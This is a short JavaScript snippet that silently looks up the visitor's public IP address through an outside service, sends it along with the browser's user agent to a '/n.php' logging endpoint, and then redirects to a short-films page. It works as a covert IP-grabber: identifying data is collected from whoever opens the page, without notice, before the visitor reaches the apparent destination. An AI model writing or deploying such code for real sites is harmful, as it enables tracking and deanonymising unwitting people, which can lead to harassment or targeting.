fetch('https://api.ipify.org?format=json')
  .then((r) => r.json())
  .then((me) => {
    fetch('/n.php?ip=' + me.ip + '&agent=' + encodeURIComponent(navigator.userAgent)).then(() => {
      location.href = 'https://short-films.example/watch/19';
    });
  });
